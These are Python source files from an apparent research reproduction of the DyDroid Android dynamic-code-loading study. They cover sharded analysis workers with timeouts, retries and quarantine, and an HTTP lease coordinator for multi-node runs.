  (worker processes run jobs on their main thread, so the alarm is safe);
- **bounded retries** with exponential backoff -- analysis is deterministic,
  so retries exist to absorb environmental failures (OOM kills of a
  sibling, transient filesystem errors), not flaky verdicts;
- **quarantine** once retries are exhausted: the app is recorded and
  skipped instead of taking the whole shard (and run) down with it.

Results leave the worker already serialized (``AppAnalysis.to_dict``), so
no live session objects -- VM graphs, payload bytes -- cross the process
boundary or land in the checkpoint journal.

With ``job.flight_dir`` set the shard also streams live telemetry: a
crash-safe :class:`~repro.farm.flight.FlightRecorder` ring of recent
events *and* spans (``flight-<shard>.jsonl``, kept only when something
went wrong) and an atomically-refreshed ``heartbeat-<shard>.json`` after
every app, which is what the coordinator's status writer and ``repro
top`` watch for progress and stalls.
"""

from __future__ import annotations

import signal
import threading
import time
from contextlib import contextmanager
from typing import Iterator, Optional

from repro.core.pipeline import DyDroid
from repro.corpus.generator import CorpusGenerator
from repro.farm.flight import FlightRecorder, write_heartbeat
from repro.farm.jobs import AppResult, ChaosSpec, QuarantineRecord, ShardJob, ShardResult
from repro.observe.metrics import MetricsRegistry
from repro.observe.tracer import NULL_TRACER, Tracer


class AppTimeoutError(RuntimeError):
    """One app exceeded its per-app analysis deadline."""


class ChaosError(RuntimeError):
    """An injected (test-only) analysis failure."""


def _alarm_usable() -> bool:
    return hasattr(signal, "SIGALRM") and threading.current_thread() is threading.main_thread()


@contextmanager
def app_deadline(seconds: Optional[float], package: str) -> Iterator[None]:
    """Raise :class:`AppTimeoutError` if the body runs past ``seconds``.

    No-op when no timeout is configured or ``SIGALRM`` cannot be armed
    (non-main thread, non-POSIX platform) -- the farm degrades to
    retry/quarantine-only fault tolerance there.
    """
    if not seconds or not _alarm_usable():
        yield
        return

    def on_alarm(signum, frame):
        raise AppTimeoutError(
            "analysis of {} exceeded {:.3f}s deadline".format(package, seconds)
        )

    previous = signal.signal(signal.SIGALRM, on_alarm)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0.0)
        signal.signal(signal.SIGALRM, previous)


def _inject_chaos(chaos: ChaosSpec, package: str, attempt: int) -> None:
    if package in chaos.slow_packages and chaos.slow_s:
        time.sleep(chaos.slow_s)
    if package in chaos.fail_packages and attempt < chaos.fail_attempts:
        raise ChaosError("injected failure for {} (attempt {})".format(package, attempt))


def run_shard(job: ShardJob) -> ShardResult:
    """Analyze every app of one shard; never raises for a single bad app."""
    started = time.perf_counter()
    flight = (
        FlightRecorder(job.flight_dir, job.shard_id)
        if job.flight_dir is not None
        else None
    )
    # Fresh per-shard tracer/registry; both leave the worker serialized
    # inside the ShardResult and are merged deterministically by the
    # coordinator (span ids re-numbered in shard order, registry folded
    # with commutative merges).  Flight recording needs real spans even
    # when the coordinator did not ask for trace export.
    tracer = Tracer() if (job.trace or flight is not None) else NULL_TRACER
    registry = MetricsRegistry()
    generator = CorpusGenerator(seed=job.corpus_seed)
    blueprints = generator.sample_blueprints(job.n_apps)
    # Passing the path (not an instance) makes the pipeline open -- and
    # own -- a store handle in THIS worker process; flock coordinates the
    # sibling shards sharing the file.
    dydroid = DyDroid(
        job.config, tracer=tracer, metrics=registry,
        verdict_store=job.verdict_store,
    )
    result = ShardResult(shard_id=job.shard_id)

    settled = 0
    spans_recorded = 0

    def checkpoint_flight() -> None:
        """Fold new spans into the flight ring and refresh the heartbeat."""
        nonlocal spans_recorded
        if flight is None:
            return
        spans = tracer.to_dicts()
        flight.record_spans(spans[spans_recorded:])
        spans_recorded = len(spans)
        write_heartbeat(job.flight_dir, job.shard_id, settled, len(job.indices))

    if flight is not None:
        flight.emit(
            "shard.started", shard=job.shard_id,
            n_apps=len(job.indices), seed=job.corpus_seed,
        )
        checkpoint_flight()

    for index in job.indices:
        blueprint = blueprints[index]
        build_started = time.perf_counter()
        with tracer.span("farm.build", index=index):
            record = generator.build_record(blueprint)
        build_s = time.perf_counter() - build_started
        registry.histogram("stage.build").record(build_s)

        attempt = 0
        while True:
            analyze_started = time.perf_counter()
            try:
                with app_deadline(job.timeout_s, record.package):
                    _inject_chaos(job.chaos, record.package, attempt)
                    analysis = dydroid.analyze_app(record)
            except Exception as exc:
                attempt += 1
                registry.counter("farm.attempt_failures").inc()
                error = "{}: {}".format(type(exc).__name__, exc)
                if attempt > job.max_retries:
                    result.quarantined.append(
                        QuarantineRecord(
                            index=index,
                            package=record.package,
                            error=error,
                            attempts=attempt,
                        )
                    )
                    registry.counter("farm.quarantined").inc()
                    if flight is not None:
                        flight.emit(
                            "app.quarantined", level="error", index=index,
                            package=record.package, error=error, attempts=attempt,
                        )
                    settled += 1
                    checkpoint_flight()
                    break
                if flight is not None:
                    flight.emit(
                        "app.retry", level="warn", index=index,
                        package=record.package, error=error, attempt=attempt,
                    )
                if job.backoff_s:
                    time.sleep(job.backoff_s * (2 ** (attempt - 1)))
                continue
            analyze_s = time.perf_counter() - analyze_started
            registry.histogram("stage.analyze").record(analyze_s)
            result.results.append(
                AppResult(
                    index=index,
                    package=record.package,
                    analysis=analysis.to_dict(),
                    retries=attempt,
                    build_s=build_s,
                    analyze_s=analyze_s,
                )
            )
            if flight is not None:
                flight.emit(
                    "app.analyzed", level="debug", index=index,
                    package=record.package, analyze_s=round(analyze_s, 6),
                    retries=attempt,
                )
            settled += 1
            checkpoint_flight()
            break

    result.wall_s = time.perf_counter() - started
    result.spans = tracer.to_dicts() if job.trace else []
    result.metrics = registry.to_dict()
    dydroid.close()
    if flight is not None:
        flight.emit(
            "shard.completed", shard=job.shard_id,
            analyzed=len(result.results), quarantined=len(result.quarantined),
            wall_s=round(result.wall_s, 6),
        )
        write_heartbeat(
            job.flight_dir, job.shard_id, settled, len(job.indices), done=True
        )
        # a clean shard deletes its recording; one that retried or
        # quarantined leaves the dump behind for post-mortems.
        flight.close()
    return result
