"""The analysis farm: corpus-scale scheduling around ``DyDroid.analyze_app``.

The paper ran DyDroid over its 46K-app crawl on a cluster of instrumented
emulators; this package is that scheduling layer for the reproduction:

- :mod:`repro.farm.shards`      -- deterministic corpus partitioning;
- :mod:`repro.farm.jobs`        -- picklable job/result records (no APKs
  cross process boundaries; workers regenerate from seed + index);
- :mod:`repro.farm.worker`      -- per-shard analysis with per-app
  timeouts, bounded retry with backoff, and quarantine;
- :mod:`repro.farm.executors`   -- process pool or synchronous in-process;
- :mod:`repro.farm.checkpoint`  -- append-only JSONL journal for resume;
- :mod:`repro.farm.merger`      -- order-independent merge back into one
  :class:`~repro.core.report.MeasurementReport`;
- :mod:`repro.farm.metrics`     -- throughput / latency / failure metrics;
- :mod:`repro.farm.flight`      -- per-shard flight recorder, worker
  heartbeats, and the coordinator's live ``status.json``;
- :mod:`repro.farm.coordinator` -- :func:`run_farm` gluing it all together;
- :mod:`repro.farm.netcoord`    -- the coordinator as an HTTP service
  (``repro farm serve``): a lease ledger workers pull shards from, with
  expiry-driven re-queue of shards whose worker died;
- :mod:`repro.farm.networker`   -- ``repro farm join``: lease, analyze
  via :func:`run_shard`, renew from heartbeats, ship results back.

Determinism guarantee: for a fixed corpus seed and pipeline config, the
merged report of any shard/worker configuration -- local pool or
multi-node -- renders byte-identically to the serial ``DyDroid.measure``
run (quarantined apps excepted -- those are reported, not silently
dropped).
"""

from repro.farm.checkpoint import CheckpointError, CheckpointJournal
from repro.farm.coordinator import FarmConfig, FarmResult, run_farm
from repro.farm.executors import SyncExecutor, create_executor
from repro.farm.flight import (
    FlightRecorder,
    StatusWriter,
    flight_path,
    heartbeat_path,
    load_flight,
    read_heartbeats,
    write_heartbeat,
)
from repro.farm.jobs import (
    AppResult,
    ChaosSpec,
    QuarantineRecord,
    ShardJob,
    ShardResult,
)
from repro.farm.merger import merge_reports, merge_serialized
from repro.farm.metrics import FarmMetrics
from repro.farm.netcoord import FarmCoordinator, LeaseEntry, ShardLedger
from repro.farm.networker import FarmJoinError, JoinSummary, join_farm
from repro.farm.shards import ShardSpec, plan_shards
from repro.farm.worker import AppTimeoutError, run_shard


def __getattr__(name: str):
    if name == "LatencyHistogram":
        # deprecated path; repro.farm.metrics.__getattr__ emits the warning.
        from repro.farm import metrics

        return metrics.LatencyHistogram
    raise AttributeError(
        "module {!r} has no attribute {!r}".format(__name__, name)
    )

__all__ = [
    "AppResult",
    "AppTimeoutError",
    "ChaosSpec",
    "CheckpointError",
    "CheckpointJournal",
    "FarmConfig",
    "FarmCoordinator",
    "FarmJoinError",
    "FarmMetrics",
    "FarmResult",
    "FlightRecorder",
    "JoinSummary",
    "LatencyHistogram",
    "LeaseEntry",
    "QuarantineRecord",
    "ShardLedger",
    "ShardJob",
    "ShardResult",
    "ShardSpec",
    "StatusWriter",
    "SyncExecutor",
    "create_executor",
    "flight_path",
    "heartbeat_path",
    "join_farm",
    "load_flight",
    "merge_reports",
    "merge_serialized",
    "plan_shards",
    "read_heartbeats",
    "run_farm",
    "run_shard",
    "write_heartbeat",
]
