"""The network farm coordinator: shard leases over HTTP for multi-node runs.

``repro farm serve`` promotes the in-process coordinator of
:mod:`repro.farm.coordinator` to a service any number of ``repro farm
join`` workers (separate processes, separate hosts) can pull work from.
The transport reuses the daemon's HTTP plumbing
(:class:`repro.service.http.JsonRequestHandler` server-side,
:class:`repro.service.client.ServiceClient` worker-side); the work
distribution is a pull-based **lease ledger** rather than push
assignment, which is what makes stealing and crash recovery natural:

- ``POST /v1/lease``    -- a worker asks for work; the first pending
  shard is leased to it for ``lease_s`` seconds (work-stealing: whoever
  asks first gets the shard, idle nodes drain the queue of a slow one);
- ``POST /v1/renew``    -- heartbeat: the worker extends its lease and
  reports per-app progress read from its local flight-recorder
  heartbeat file (:func:`repro.farm.flight.write_heartbeat`);
- ``POST /v1/complete`` -- the worker ships the full
  :class:`~repro.farm.jobs.ShardResult` as JSON; folding is
  first-completion-wins, so a late completion from a stale lease is
  discarded and every app index lands in the merged report exactly once;
- ``POST /v1/fail``     -- the worker's local executor died on a shard;
  the ledger re-queues it one app per shard (the same poison isolation
  the local farm applies) or quarantines a single-app shard;
- ``GET  /v1/run``      -- the run descriptor: corpus identity, the full
  wire-serialized pipeline config, and the run fingerprint a joining
  worker must reproduce before it may lease (the resume contract of
  :mod:`repro.farm.checkpoint`, extended over the network);
- ``GET  /v1/status``, ``/healthz``, ``/metrics`` -- observability.

Lease state machine (per ledger entry)::

    PENDING --lease--> LEASED --complete/fail--> DONE
       ^                  |
       +----- expire -----+   (reaper or lazy, on any ledger access)

A worker killed mid-shard (SIGKILL, OOM) simply stops renewing; when its
lease expires the shard returns to PENDING and the next ``lease`` call
hands it to a surviving worker (counted in ``farm.lease.expired`` /
``farm.lease.stolen``).  The checkpoint journal stays coordinator-owned
and single-writer -- workers never touch it -- so the crash-consistency
contract of :class:`~repro.farm.checkpoint.CheckpointJournal` is
unchanged, and killing the *coordinator* leaves a resumable journal
exactly as the local farm does.
"""

from __future__ import annotations

import os
import threading
import time
from dataclasses import dataclass, field, replace
from http.server import ThreadingHTTPServer
from typing import Callable, Dict, List, Optional, Tuple

from repro.farm.checkpoint import CheckpointJournal
from repro.farm.coordinator import FarmConfig, FarmResult, build_shard_jobs
from repro.farm.jobs import (
    QuarantineRecord,
    ShardJob,
    ShardResult,
    chaos_to_wire,
    config_to_wire,
    run_fingerprint,
    shard_job_to_wire,
    shard_result_from_wire,
    with_indices,
)
from repro.farm.merger import merge_serialized
from repro.farm.metrics import FarmMetrics
from repro.farm.shards import plan_shards
from repro.observe.merge import merge_span_lists
from repro.observe.metrics import MetricsRegistry, lease_summary
from repro.observe.prom import PROM_CONTENT_TYPE, to_prometheus
# The daemon's transport plumbing is exactly the reuse the network farm
# wants: one JSON-over-HTTP idiom repo-wide.
from repro.service.http import JsonRequestHandler
from repro.store.verdicts import VerdictStore

__all__ = [
    "NETFARM_PROTOCOL",
    "FarmCoordinator",
    "LeaseEntry",
    "ShardLedger",
]

NETFARM_PROTOCOL = 1

PENDING = "pending"
LEASED = "leased"
DONE = "done"


@dataclass
class LeaseEntry:
    """One ledger row: a shard job and who (if anyone) holds it right now."""

    entry_id: int
    job: ShardJob
    state: str = PENDING
    worker: Optional[str] = None
    expires_at: float = 0.0
    #: grants so far (1 on first lease; >1 means the shard was requeued).
    attempts: int = 0
    #: who held the lease the reaper last reclaimed (for steal counting).
    prev_worker: Optional[str] = None
    #: last renewal progress: ``{"completed": n, "total": n}``.
    progress: Dict[str, int] = field(default_factory=dict)


class ShardLedger:
    """Thread-safe lease ledger over a fixed set of shard jobs.

    All transitions happen under one mutex with an injectable clock, so
    tests drive expiry deterministically.  Expired leases are reclaimed
    lazily on every ``lease`` call *and* by the coordinator's reaper
    thread, so recovery does not depend on a new worker happening to ask.
    """

    def __init__(
        self,
        jobs: List[ShardJob],
        lease_s: float = 15.0,
        registry: Optional[MetricsRegistry] = None,
        clock: Callable[[], float] = time.monotonic,
    ) -> None:
        if lease_s <= 0:
            raise ValueError("lease_s must be > 0")
        self.lease_s = lease_s
        self._clock = clock
        self._registry = registry if registry is not None else MetricsRegistry()
        self._lock = threading.Lock()
        self._entries: Dict[int, LeaseEntry] = {}
        self._next_id = 0
        self._workers_seen: List[str] = []
        for job in jobs:
            self._append_entry(job)

    def _append_entry(self, job: ShardJob) -> LeaseEntry:
        entry = LeaseEntry(entry_id=self._next_id, job=job)
        self._entries[entry.entry_id] = entry
        self._next_id += 1
        return entry

    def _count(self, name: str) -> None:
        self._registry.counter("farm.lease.{}".format(name)).inc()

    def _expire_locked(self, now: float) -> int:
        expired = 0
        for entry in self._entries.values():
            if entry.state == LEASED and entry.expires_at <= now:
                entry.state = PENDING
                entry.prev_worker = entry.worker
                entry.worker = None
                entry.progress = {}
                expired += 1
                self._count("expired")
        return expired

    # -- transitions -----------------------------------------------------------

    def lease(self, worker: str) -> Optional[LeaseEntry]:
        """Grant the first pending shard to ``worker``; None when drained."""
        now = self._clock()
        with self._lock:
            self._expire_locked(now)
            if worker not in self._workers_seen:
                self._workers_seen.append(worker)
            for entry_id in sorted(self._entries):
                entry = self._entries[entry_id]
                if entry.state != PENDING:
                    continue
                entry.state = LEASED
                entry.worker = worker
                entry.expires_at = now + self.lease_s
                entry.attempts += 1
                self._count("granted")
                if entry.prev_worker is not None and entry.prev_worker != worker:
                    self._count("stolen")
                return entry
            return None

    def renew(self, worker: str, entry_id: int, progress: Dict[str, int]) -> bool:
        """Extend a live lease; False means the lease was lost (expired,
        re-granted, or completed by someone else)."""
        now = self._clock()
        with self._lock:
            self._expire_locked(now)
            entry = self._entries.get(entry_id)
            if entry is None or entry.state != LEASED or entry.worker != worker:
                return False
            entry.expires_at = now + self.lease_s
            if progress:
                entry.progress = dict(progress)
            self._count("renewed")
            return True

    def complete(self, worker: str, entry_id: int) -> bool:
        """First completion wins; True means the caller's results count.

        A completion is accepted even from a worker whose lease expired
        (the work is done and no one else finished it first); the entry
        flips to DONE under the mutex, so at most one caller ever gets
        True for a given entry -- that is the fleet-wide exactly-once
        folding guarantee.
        """
        with self._lock:
            entry = self._entries.get(entry_id)
            if entry is None:
                return False
            if entry.state == DONE:
                self._count("stale")
                return False
            entry.state = DONE
            entry.worker = worker
            entry.progress = {}
            return True

    def fail(self, worker: str, entry_id: int) -> Tuple[int, Tuple[int, ...]]:
        """A worker's executor died on this shard.

        Multi-app shards are requeued one app per entry (poison
        isolation, mirroring the local coordinator); a single-app shard
        has found its culprit and is surrendered for quarantine.  Returns
        ``(entries_requeued, indices_to_quarantine)``.
        """
        with self._lock:
            entry = self._entries.get(entry_id)
            if entry is None or entry.state == DONE:
                return 0, ()
            entry.state = DONE
            entry.worker = worker
            entry.progress = {}
            if len(entry.job.indices) <= 1:
                return 0, entry.job.indices
            for index in entry.job.indices:
                self._append_entry(with_indices(entry.job, (index,)))
            return len(entry.job.indices), ()

    def expire(self) -> int:
        """Reap expired leases now (the coordinator's reaper tick)."""
        with self._lock:
            return self._expire_locked(self._clock())

    # -- queries ---------------------------------------------------------------

    def done(self) -> bool:
        with self._lock:
            return all(entry.state == DONE for entry in self._entries.values())

    def workers_seen(self) -> List[str]:
        with self._lock:
            return list(self._workers_seen)

    def snapshot(self) -> Dict[str, object]:
        now = self._clock()
        with self._lock:
            states = {PENDING: 0, LEASED: 0, DONE: 0}
            leases = []
            for entry_id in sorted(self._entries):
                entry = self._entries[entry_id]
                states[entry.state] += 1
                if entry.state == LEASED:
                    leases.append(
                        {
                            "entry_id": entry.entry_id,
                            "shard_id": entry.job.shard_id,
                            "indices": list(entry.job.indices),
                            "worker": entry.worker,
                            "expires_in_s": round(entry.expires_at - now, 3),
                            "attempts": entry.attempts,
                            "progress": dict(entry.progress),
                        }
                    )
            return {
                "entries": len(self._entries),
                "pending": states[PENDING],
                "leased": states[LEASED],
                "done": states[DONE],
                "workers": list(self._workers_seen),
                "leases": leases,
            }


class FarmCoordinator:
    """``repro farm serve``: the run_farm control loop behind HTTP.

    Owns everything stateful -- the lease ledger, the (single-writer)
    checkpoint journal, the merge accumulators, and the
    :class:`FarmMetrics` registry every completed shard folds into.
    Workers are stateless leaseholders; killing any of them loses at
    most one lease interval of progress, and killing the coordinator
    leaves a journal ``--resume`` accepts.
    """

    def __init__(
        self,
        config: FarmConfig,
        host: str = "127.0.0.1",
        port: int = 0,
        lease_s: float = 15.0,
        reap_interval_s: Optional[float] = None,
    ) -> None:
        if config.resume and not config.checkpoint:
            raise ValueError("resume requires a checkpoint path")
        self.config = config
        self.host = host
        self._requested_port = port
        self.lease_s = lease_s
        self.reap_interval_s = (
            reap_interval_s if reap_interval_s is not None else max(0.2, lease_s / 3.0)
        )
        # Workers run in other working directories (often other hosts on a
        # shared filesystem), so a relative store path must be anchored
        # before it goes on the wire.
        self._store_path = (
            os.path.abspath(config.verdict_store) if config.verdict_store else None
        )
        if self._store_path:
            # Fail fast on a fingerprint mismatch here, in the coordinator,
            # exactly as run_farm does.
            VerdictStore(self._store_path, config.pipeline).close()

        shards = plan_shards(
            config.n_apps, config.planned_shards(), config.shard_strategy
        )
        self.metrics = FarmMetrics(workers=0, shards_planned=len(shards))
        self.fingerprint = run_fingerprint(
            config.corpus_seed, config.n_apps, config.pipeline
        )

        self._journal: Optional[CheckpointJournal] = None
        self._analyses: Dict[int, Dict[str, object]] = {}
        self._quarantined: List[QuarantineRecord] = []
        self._resumed_apps = 0
        if config.checkpoint:
            self._journal = CheckpointJournal(
                config.checkpoint,
                corpus_seed=config.corpus_seed,
                n_apps=config.n_apps,
                config=config.pipeline,
                resume=config.resume,
            )
            self._analyses.update(self._journal.completed)
            for entry in self._journal.quarantined.values():
                self._quarantined.append(
                    QuarantineRecord(
                        index=entry["index"],
                        package=entry["package"],
                        error=entry["error"],
                        attempts=entry["attempts"],
                    )
                )
            self._resumed_apps = len(self._journal.completed)
            self.metrics.record_resumed(
                self._resumed_apps, len(self._journal.quarantined)
            )

        skip = self._journal.settled_indices() if self._journal else set()
        jobs = [
            replace(job, flight_dir=None, verdict_store=self._store_path)
            for job in build_shard_jobs(config, shards, skip)
        ]
        self.ledger = ShardLedger(
            jobs, lease_s=lease_s, registry=self.metrics.registry
        )
        self._shard_spans: List[Tuple[int, List[Dict[str, object]]]] = []
        self._lock = threading.Lock()
        self._finished = threading.Event()
        self._stop_reaper = threading.Event()
        self._result: Optional[FarmResult] = None
        self._server = None
        self._server_thread: Optional[threading.Thread] = None
        self._reaper_thread: Optional[threading.Thread] = None

    # -- lifecycle -------------------------------------------------------------

    @property
    def port(self) -> int:
        if self._server is None:
            raise RuntimeError("coordinator is not started")
        return self._server.server_port

    def start(self) -> "FarmCoordinator":
        self.metrics.start()
        self._server = _FarmHTTPServer((self.host, self._requested_port), self)
        self._server_thread = threading.Thread(
            target=self._server.serve_forever,
            name="repro-farm-coordinator",
            daemon=True,
        )
        self._server_thread.start()
        self._reaper_thread = threading.Thread(
            target=self._reap_loop, name="repro-farm-reaper", daemon=True
        )
        self._reaper_thread.start()
        if self.ledger.done():  # fully-resumed run: nothing left to lease
            self._finish()
        return self

    def _reap_loop(self) -> None:
        while not self._stop_reaper.wait(self.reap_interval_s):
            self.ledger.expire()
            if self.ledger.done():
                self._finish()

    def wait(self, timeout: Optional[float] = None) -> FarmResult:
        """Block until every shard is DONE; returns the merged result."""
        if not self._finished.wait(timeout):
            raise TimeoutError(
                "farm run incomplete after {}s ({})".format(
                    timeout, self.ledger.snapshot()
                )
            )
        assert self._result is not None
        return self._result

    def stop(self) -> None:
        """Shut the server down (idempotent); the journal stays resumable."""
        self._stop_reaper.set()
        if self._server is not None:
            self._server.shutdown()
            self._server.server_close()
        with self._lock:
            if self._result is None and self._journal is not None:
                self._journal.close()
                self._journal = None

    def _finish(self) -> None:
        with self._lock:
            if self._result is not None:
                return
            if self._journal is not None:
                self._journal.close()
                self._journal = None
            self.metrics.workers = len(self.ledger.workers_seen())
            self.metrics.stop()
            metrics = self.metrics.to_dict()
            metrics["leases"] = lease_summary(self.metrics.registry)
            self._result = FarmResult(
                report=merge_serialized(self._analyses),
                metrics=metrics,
                quarantined=sorted(self._quarantined, key=lambda r: r.index),
                resumed_apps=self._resumed_apps,
                spans=merge_span_lists(self._shard_spans),
            )
        self._finished.set()

    # -- endpoint bodies -------------------------------------------------------

    def describe(self) -> Dict[str, object]:
        """``GET /v1/run``: everything a worker needs to rebuild the jobs."""
        return {
            "kind": "farm-run",
            "protocol": NETFARM_PROTOCOL,
            "corpus_seed": self.config.corpus_seed,
            "n_apps": self.config.n_apps,
            "fingerprint": self.fingerprint,
            "lease_s": self.lease_s,
            "pipeline": config_to_wire(self.config.pipeline),
            "chaos": chaos_to_wire(self.config.chaos),
            "timeout_s": self.config.timeout_s,
            "max_retries": self.config.max_retries,
            "backoff_s": self.config.backoff_s,
            "trace": self.config.trace,
            "verdict_store": self._store_path,
        }

    def handle_lease(self, worker: str) -> Dict[str, object]:
        entry = self.ledger.lease(worker)
        if entry is None:
            done = self.ledger.done()
            if done:
                self._finish()
            return {"empty": True, "done": done, "retry_after_s": 0.5}
        return {
            "entry_id": entry.entry_id,
            "lease_s": self.lease_s,
            "shard": shard_job_to_wire(entry.job),
        }

    def handle_renew(
        self, worker: str, entry_id: int, progress: Dict[str, int]
    ) -> Dict[str, object]:
        return {"ok": self.ledger.renew(worker, entry_id, progress)}

    def handle_complete(
        self, worker: str, entry_id: int, result_wire: Dict[str, object]
    ) -> Dict[str, object]:
        result: ShardResult = shard_result_from_wire(result_wire)
        accepted = self.ledger.complete(worker, entry_id)
        if accepted:
            self._fold(result)
            if self.ledger.done():
                self._finish()
        return {"accepted": accepted, "done": self.ledger.done()}

    def handle_fail(
        self, worker: str, entry_id: int, error: str
    ) -> Dict[str, object]:
        requeued, quarantine = self.ledger.fail(worker, entry_id)
        with self._lock:
            for index in quarantine:
                record = QuarantineRecord(
                    index=index,
                    package="<corpus index {}>".format(index),
                    error="worker died: {}".format(error),
                    attempts=1,
                )
                self._quarantined.append(record)
                if self._journal is not None:
                    self._journal.append_quarantine(record)
                self.metrics.record_coordinator_quarantine()
        if self.ledger.done():
            self._finish()
        return {"requeued": requeued, "quarantined": len(quarantine)}

    def _fold(self, result: ShardResult) -> None:
        """Merge one accepted shard result (journal + accumulators)."""
        with self._lock:
            self.metrics.record_shard(result)
            if result.spans:
                self._shard_spans.append((result.shard_id, result.spans))
            for app in result.results:
                if app.index in self._analyses:
                    continue  # settled by a resume or an earlier duplicate
                self._analyses[app.index] = app.analysis
                if self._journal is not None:
                    self._journal.append_result(app)
            for record in result.quarantined:
                self._quarantined.append(record)
                if self._journal is not None:
                    self._journal.append_quarantine(record)

    def status(self) -> Dict[str, object]:
        """``GET /v1/status``: ledger + progress for dashboards and tests."""
        ledger = self.ledger.snapshot()
        with self._lock:
            settled = len(self._analyses) + len(self._quarantined)
            quarantined = len(self._quarantined)
        return {
            "kind": "farm-status",
            "fingerprint": self.fingerprint,
            "n_apps": self.config.n_apps,
            "apps_settled": settled,
            "apps_quarantined": quarantined,
            "done": self._finished.is_set(),
            "ledger": ledger,
            "leases": lease_summary(self.metrics.registry),
        }


# -- HTTP layer --------------------------------------------------------------------


class _FarmHTTPServer(ThreadingHTTPServer):
    daemon_threads = True
    allow_reuse_address = True

    def __init__(self, address, coordinator: FarmCoordinator) -> None:
        super().__init__(address, _FarmHandler)
        self.coordinator = coordinator


class _FarmHandler(JsonRequestHandler):
    @property
    def coordinator(self) -> FarmCoordinator:
        return self.server.coordinator

    def do_GET(self) -> None:
        self._dispatch("GET")

    def do_POST(self) -> None:
        self._dispatch("POST")

    def _dispatch(self, method: str) -> None:
        try:
            status, body, raw = self._route(method)
        except Exception as exc:  # noqa: BLE001 - a bad request must not kill serving
            status, body, raw = 500, {"error": str(exc)}, None
        try:
            if raw is not None:
                self._send_bytes(status, raw.encode("utf-8"), PROM_CONTENT_TYPE, {})
            else:
                self._send(status, body, {})
        except (BrokenPipeError, ConnectionResetError):
            pass  # worker went away mid-response

    def _route(self, method: str):
        coordinator = self.coordinator
        path, _, query = self.path.partition("?")
        path = path.rstrip("/") or "/"
        if method == "GET":
            if path == "/v1/run":
                return 200, coordinator.describe(), None
            if path == "/v1/status":
                return 200, coordinator.status(), None
            if path == "/healthz":
                return 200, {"ok": True, "done": coordinator._finished.is_set()}, None
            if path == "/metrics":
                if "format=prom" in query:
                    return 200, {}, to_prometheus(coordinator.metrics.registry)
                return 200, coordinator.metrics.registry.to_dict(), None
            return 404, {"error": "no route GET {}".format(path)}, None
        if method == "POST":
            payload, error = self._read_json()
            if payload is None:
                return 400, {"error": error}, None
            worker = payload.get("worker")
            if not isinstance(worker, str) or not worker:
                return 400, {"error": "'worker' must be a non-empty string"}, None
            if path == "/v1/lease":
                return 200, coordinator.handle_lease(worker), None
            entry_id = payload.get("entry_id")
            if not isinstance(entry_id, int):
                return 400, {"error": "'entry_id' must be an integer"}, None
            if path == "/v1/renew":
                progress = payload.get("progress")
                progress = progress if isinstance(progress, dict) else {}
                return 200, coordinator.handle_renew(worker, entry_id, progress), None
            if path == "/v1/complete":
                result = payload.get("result")
                if not isinstance(result, dict):
                    return 400, {"error": "'result' must be an object"}, None
                return 200, coordinator.handle_complete(worker, entry_id, result), None
            if path == "/v1/fail":
                error_text = str(payload.get("error", "unknown"))
                return 200, coordinator.handle_fail(worker, entry_id, error_text), None
            return 404, {"error": "no route POST {}".format(path)}, None
        return 405, {"error": "method {} not allowed".format(method)}, None
