"""DyDroid reproduction: measuring dynamic code loading (DCL) in Android apps.

This library reproduces the DSN 2017 paper *DyDroid: Measuring Dynamic Code
Loading and Its Security Implications in Android Applications* as a
self-contained Python system:

- :mod:`repro.android` -- application artifacts (APK, mini-DEX, native libs);
- :mod:`repro.runtime` -- the simulated device and Dalvik-style VM with
  instrumentation at the paper's hook points;
- :mod:`repro.dynamic` -- the App Execution Engine (Monkey fuzzing, DCL
  logging, code interception, download tracking, provenance);
- :mod:`repro.static_analysis` -- decompiler/prefilter/rewriter, DroidNative
  malware detection, FlowDroid-style privacy analysis, obfuscation and
  vulnerability analysis;
- :mod:`repro.corpus` -- the synthetic app-market generator used in place of
  the paper's 58,739 Google Play APKs;
- :mod:`repro.core` -- the DyDroid pipeline and measurement reports;
- :mod:`repro.farm` -- the sharded, fault-tolerant analysis farm
  (checkpoint/resume, worker pool, deterministic merge, metrics).

Quickstart::

    from repro import DyDroid, generate_corpus

    corpus = generate_corpus(n_apps=200, seed=7)
    report = DyDroid().measure(corpus)
    print(report.dynamic_summary())
"""

__version__ = "1.0.0"

_LAZY_EXPORTS = {
    "DyDroid": ("repro.core.pipeline", "DyDroid"),
    "DyDroidConfig": ("repro.core.config", "DyDroidConfig"),
    "MeasurementReport": ("repro.core.report", "MeasurementReport"),
    "generate_corpus": ("repro.corpus.generator", "generate_corpus"),
    "CorpusProfile": ("repro.corpus.profiles", "CorpusProfile"),
    "FarmConfig": ("repro.farm.coordinator", "FarmConfig"),
    "run_farm": ("repro.farm.coordinator", "run_farm"),
}

__all__ = sorted(_LAZY_EXPORTS) + ["__version__"]


def __getattr__(name):
    """Lazy top-level exports keep `import repro.android` cheap."""
    try:
        module_name, attr = _LAZY_EXPORTS[name]
    except KeyError:
        raise AttributeError("module 'repro' has no attribute {!r}".format(name))
    import importlib

    module = importlib.import_module(module_name)
    value = getattr(module, attr)
    globals()[name] = value
    return value
