"""The DyDroid orchestrator (Figure 1 of the paper).

Per app: decompile -> prefilter -> (DCL candidates only) dynamic analysis
with Monkey -> provenance/entity attribution -> static analysis of the
intercepted binaries (DroidNative malware matching, FlowDroid-style privacy
tracking) -> vulnerability classification -> obfuscation analysis.  Apps
whose intercepted payloads are flagged malicious are replayed under the
Table VIII environment configurations to expose trigger conditions.
"""

from __future__ import annotations

import hashlib

from collections import OrderedDict
from pathlib import Path
from typing import Dict, Generic, Optional, Sequence, Set, TypeVar, Union

from repro.core.config import DyDroidConfig
from repro.core.report import AppAnalysis, MeasurementReport, PayloadVerdict
from repro.corpus.generator import AppRecord
from repro.dynamic.engine import AppExecutionEngine, DynamicReport, EngineOptions
from repro.dynamic.interceptor import InterceptedPayload, PayloadKind
from repro.dynamic.provenance import Entity, Provenance
from repro.ecosystems.hazards import classify_hazards
from repro.observe.events import NULL_EVENT_LOG
from repro.observe.metrics import MetricsRegistry
from repro.observe.tracer import NULL_TRACER, stage
from repro.static_analysis.decompiler import DecompilationError, Decompiler
from repro.static_analysis.malware.droidnative import Detection, DroidNative
from repro.static_analysis.malware.families import training_corpus
from repro.static_analysis.obfuscation.detector import analyze_obfuscation
from repro.static_analysis.prefilter import prefilter
from repro.static_analysis.privacy.flowdroid import analyze_dex
from repro.static_analysis.smali import SmaliProgram
from repro.static_analysis.vulnerability import classify_loads
from repro.store.verdicts import VerdictStore
